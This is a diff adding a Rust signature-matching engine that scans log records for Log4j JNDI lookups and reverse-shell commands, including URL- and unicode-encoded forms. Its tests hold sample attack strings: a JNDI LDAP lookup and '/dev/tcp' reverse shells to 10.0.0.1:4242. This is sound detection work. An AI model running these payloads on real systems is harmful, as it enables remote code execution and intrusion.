@@ -1,0 +1,301 @@
+//! The compiled signature set: every rule literal (plus the anchors of encoded text) in one
+//! aho-corasick automaton, built once and shared by reference. Buffers are searched whole;
+//! only a record with a candidate is decoded and confirmed rule by rule.
+
+use std::path::PathBuf;
+
+use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
+use anyhow::Context;
+
+use super::decode::{may_be_encoded, normalize, shell_base64_payloads};
+use super::jndi::{self, JndiInfo};
+use super::rules::{self, Check, DecoderKind, Rule};
+
+/// Anchors of encoded text: a record holding one is decoded and searched again, so that
+/// `%24%7Bjndi`, `\u0024{`, `&gt;&amp;` or `%2Fdev%2Ftcp` meet the rule literals.
+const DECODE_TRIGGERS: &[&str] = &[
+    "%24", "%7b", "%7c", "%2f", "%3e", "%3c", "%26", "%27", "%22", "%60", "%3b", "%28", "%2b", "%25", "%5c",
+    "%u00", "\\u00", "\\x2", "\\x3", "\\x4", "\\x5", "\\x6", "\\x7", "\\44", "\\173", "&gt;", "&lt;",
+    "&amp;", "&#", "&quot;",
+];
+
+/// Bytes of a record shown in a hit excerpt at most.
+pub const EXCERPT_MAX: usize = 300;
+/// Bytes of decoded text shown at most.
+const DECODED_MAX: usize = 600;
+
+/// Compiled rules, shared by `&` across workers.
+#[derive(Debug)]
+pub struct Engine {
+    rules: Vec<Rule>,
+    ac: AhoCorasick,
+    /// The automaton's patterns (lower-cased literals, then decode anchors).
+    patterns: Vec<Vec<u8>>,
+    /// Per automaton pattern: the rules it is a literal of (empty for decode triggers).
+    pattern_rules: Vec<Vec<usize>>,
+}
+
+/// One rule confirmed on one record.
+#[derive(Clone, Debug)]
+pub struct RecordMatch {
+    pub rule: usize,
+    /// Byte span of the match in the raw record (the whole record start when only the
+    /// decoded text matched).
+    pub span: (usize, usize),
+    /// The decoded record around the match, when decoding changed it.
+    pub decoded: Option<String>,
+    pub jndi: Option<JndiInfo>,
+    /// Commands decoded from base64 blobs or JNDIExploit paths.
+    pub commands: Vec<String>,
+}
+
+impl Engine {
+    /// The built-in rules.
+    pub fn builtin() -> anyhow::Result<Self> {
+        Self::with_rule_files(&[])
+    }
+
+    /// Built-in rules plus the user's rule files (ids must stay unique).
+    pub fn with_rule_files(files: &[PathBuf]) -> anyhow::Result<Self> {
+        let mut all = rules::builtin().map_err(join_errors).context("built-in rules")?;
+        for f in files {
+            let extra = rules::parse_file(f).map_err(join_errors)?;
+            for r in &extra {
+                if let Some(old) = all.iter().find(|o| o.id == r.id) {
+                    anyhow::bail!("{}: rule id {:?} is already defined at {}", r.origin, r.id, old.origin);
+                }
+            }
+            all.extend(extra);
+        }
+        Self::new(all)
+    }
+
+    /// Compile `rules`.
+    pub fn new(rules: Vec<Rule>) -> anyhow::Result<Self> {
+        let mut patterns: Vec<Vec<u8>> = Vec::new();
+        let mut pattern_rules: Vec<Vec<usize>> = Vec::new();
+        let mut index = std::collections::HashMap::new();
+        for (ri, r) in rules.iter().enumerate() {
+            for lit in r.literals.iter().flat_map(|l| query_variants(l)) {
+                let key = lit.to_ascii_lowercase();
+                let pi = *index.entry(key.clone()).or_insert_with(|| {
+                    patterns.push(key);
+                    pattern_rules.push(Vec::new());
+                    patterns.len() - 1
+                });
+                if !pattern_rules[pi].contains(&ri) {
+                    pattern_rules[pi].push(ri);
+                }
+            }
+        }
+        for t in DECODE_TRIGGERS {
+            let key = t.as_bytes().to_ascii_lowercase();
+            if !index.contains_key(&key) {
+                index.insert(key.clone(), patterns.len());
+                patterns.push(key);
+                pattern_rules.push(Vec::new());
+            }
+        }
+        let ac = AhoCorasick::builder()
+            .ascii_case_insensitive(true)
+            .match_kind(MatchKind::Standard)
+            .kind(Some(AhoCorasickKind::DFA))
+            .build(&patterns)
+            .context("building the signature automaton")?;
+        Ok(Engine { rules, ac, patterns, pattern_rules })
+    }
+
+    /// The rules, in file order (built-in first).
+    pub fn rules(&self) -> &[Rule] {
+        &self.rules
+    }
+
+    /// Every literal the automaton searches for (ASCII case ignored), decode anchors included.
+    pub fn literals(&self) -> &[Vec<u8>] {
+        &self.patterns
+    }
+
+    /// First position at or after `from` where some literal or decode anchor ends, if any.
+    pub fn next_candidate(&self, hay: &[u8], from: usize) -> Option<usize> {
+        let input = aho_corasick::Input::new(hay).span(from..hay.len());
+        self.ac.find(input).map(|m| m.start())
+    }
+
+    /// Confirm every rule on one record; at most one match per rule. Commands decoded from
+    /// the record (base64 blobs, JNDIExploit paths) are matched too, so the reverse shell a
+    /// JNDI payload carries is reported as such.
+    pub fn evaluate(&self, record: &[u8]) -> Vec<RecordMatch> {
+        let mut out = self.evaluate_once(record);
+        let commands: Vec<String> = out.iter().flat_map(|m| m.commands.clone()).collect();
+        for c in commands {
+            for mut m in self.evaluate_once(c.as_bytes()) {
+                if !out.iter().any(|o| o.rule == m.rule) {
+                    m.decoded = Some(crate::model::excerpt(c.as_bytes(), 0, 0, DECODED_MAX));
+                    m.span = (0, 0);
+                    out.push(m);
+                }
+            }
+        }
+        out
+    }
+
+    fn evaluate_once(&self, record: &[u8]) -> Vec<RecordMatch> {
+        let mut triggered = false;
+        let raw_rules = self.candidates(record, &mut triggered);
+        let decoded = if triggered || (may_be_encoded(record) && !raw_rules.is_empty()) {
+            let d = normalize(record, false);
+            (d != record).then_some(d)
+        } else {
+            None
+        };
+        // Query strings encode spaces as `+`: one more variant when the record has both.
+        let plus = decoded
+            .as_ref()
+            .filter(|d| d.contains(&b'+') && record.contains(&b'%'))
+            .map(|_| normalize(record, true));
+        let mut variants: Vec<(&[u8], Vec<usize>)> = vec![(record, raw_rules)];
+        for v in [decoded.as_deref(), plus.as_deref()].into_iter().flatten() {
+            let mut t = false;
+            let c = self.candidates(v, &mut t);
+            variants.push((v, c));
+        }
+        let mut all: Vec<usize> = variants.iter().flat_map(|(_, c)| c.iter().copied()).collect();
+        all.sort_unstable();
+        all.dedup();
+        let mut out = Vec::new();
+        for ri in all {
+            let rule = &self.rules[ri];
+            for (vi, (text, cands)) in variants.iter().enumerate() {
+                if !cands.contains(&ri) {
+                    continue;
+                }
+                if let Some(m) = self.confirm(rule, ri, text) {
+                    let mut m = m;
+                    if vi > 0 {
+                        m.decoded = Some(crate::model::excerpt(text, m.span.0, m.span.1, DECODED_MAX));
+                        m.span = (0, 0);
+                    }
+                    out.push(m);
+                    break;
+                }
+            }
+        }
+        out
+    }
+
+    /// Rules with a literal in `text`; sets `triggered` when a decode anchor is there.
+    fn candidates(&self, text: &[u8], triggered: &mut bool) -> Vec<usize> {
+        let mut rules = Vec::new();
+        for m in self.ac.find_overlapping_iter(text) {
+            let pr = &self.pattern_rules[m.pattern().as_usize()];
+            if pr.is_empty() {
+                *triggered = true;
+            }
+            for &r in pr {
+                if !rules.contains(&r) {
+                    rules.push(r);
+                }
+            }
+        }
+        rules
+    }
+
+    fn confirm(&self, rule: &Rule, ri: usize, text: &[u8]) -> Option<RecordMatch> {
+        let lit_span = literal_span(rule, text)?;
+        if rule.exclude.iter().any(|re| re.is_match(text)) {
+            return None;
+        }
+        let mut m = RecordMatch { rule: ri, span: lit_span, decoded: None, jndi: None, commands: Vec::new() };
+        for (i, check) in rule.confirm.iter().enumerate() {
+            match check {
+                Check::Regex(re) => {
+                    let found = re.find(text)?;
+                    if i == 0 {
+                        m.span = (found.start(), found.end());
+                    }
+                }
+                Check::Decoder(DecoderKind::Jndi) => {
+                    let s = String::from_utf8_lossy(text);
+                    let ev = jndi::evaluate(&s);
+                    let j = ev.jndi.into_iter().next()?;
+                    if let Some(c) = &j.command {
+                        m.commands.push(c.clone());
+                    }
+                    m.jndi = Some(j);
+                }
+                Check::Decoder(DecoderKind::ShellBase64) => {
+                    let p = shell_base64_payloads(text);
+                    if p.is_empty() {
+                        return None;
+                    }
+                    m.commands.extend(p);
+                }
+            }
+        }
+        Some(m)
+    }
+}
+
+/// A literal and, when it holds spaces, its query-string spellings (`%20`, `+`): so that
+/// `nc%20-c%20bash` is a candidate without making every `%20` of an access log one.
+fn query_variants(lit: &[u8]) -> Vec<Vec<u8>> {
+    let mut out = vec![lit.to_vec()];
+    if lit.contains(&b' ') {
+        out.push(lit.iter().flat_map(|&b| if b == b' ' { b"%20".to_vec() } else { vec![b] }).collect());
+        out.push(lit.iter().map(|&b| if b == b' ' { b'+' } else { b }).collect());
+    }
+    out
+}
+
+/// Where a literal of `rule` occurs in `text` (with the rule's case flag), if anywhere.
+fn literal_span(rule: &Rule, text: &[u8]) -> Option<(usize, usize)> {
+    rule.literals.iter().find_map(|lit| {
+        let pos =
+            if rule.case_sensitive { memchr::memmem::find(text, lit) } else { find_ascii_ci(text, lit) };
+        pos.map(|p| (p, p + lit.len()))
+    })
+}
+
+fn find_ascii_ci(hay: &[u8], needle: &[u8]) -> Option<usize> {
+    if needle.is_empty() || needle.len() > hay.len() {
+        return None;
+    }
+    hay.windows(needle.len()).position(|w| w.eq_ignore_ascii_case(needle))
+}
+
+fn join_errors(errs: Vec<rules::RuleError>) -> anyhow::Error {
+    anyhow::anyhow!(errs.iter().map(|e| e.to_string()).collect::<Vec<_>>().join("\n"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn ids(engine: &Engine, line: &str) -> Vec<String> {
+        engine.evaluate(line.as_bytes()).iter().map(|m| engine.rules()[m.rule].id.clone()).collect()
+    }
+
+    #[test]
+    fn encoded_records_are_decoded_before_confirming() {
+        let e = Engine::builtin().unwrap();
+        assert_eq!(
+            ids(&e, "GET /?q=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D HTTP/1.1"),
+            vec!["log4j.jndi-lookup"]
+        );
+        assert!(ids(&e, r"bash -i \u003e\u0026 /dev/tcp/10.0.0.1/4242 0\u003e\u00261")
+            .contains(&"shell.reverse.dev-tcp".to_string()));
+        assert!(ids(&e, "GET /x?c=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F10.0.0.1%2F4242%200%3E%261")
+            .contains(&"shell.reverse.dev-tcp".to_string()));
+        assert!(ids(&e, "plain text without anything").is_empty());
+    }
+
+    #[test]
+    fn case_flag_is_honoured() {
+        let e = Engine::builtin().unwrap();
+        assert_eq!(
+            ids(&e, "WARN Error looking up JNDI resource [ldap://1.2.3.4/e]"),
+            vec!["log4j.jndi-lookup-error"]
+        );
+        assert!(ids(&e, "warn error looking up jndi resource").is_empty());
+    }
+}
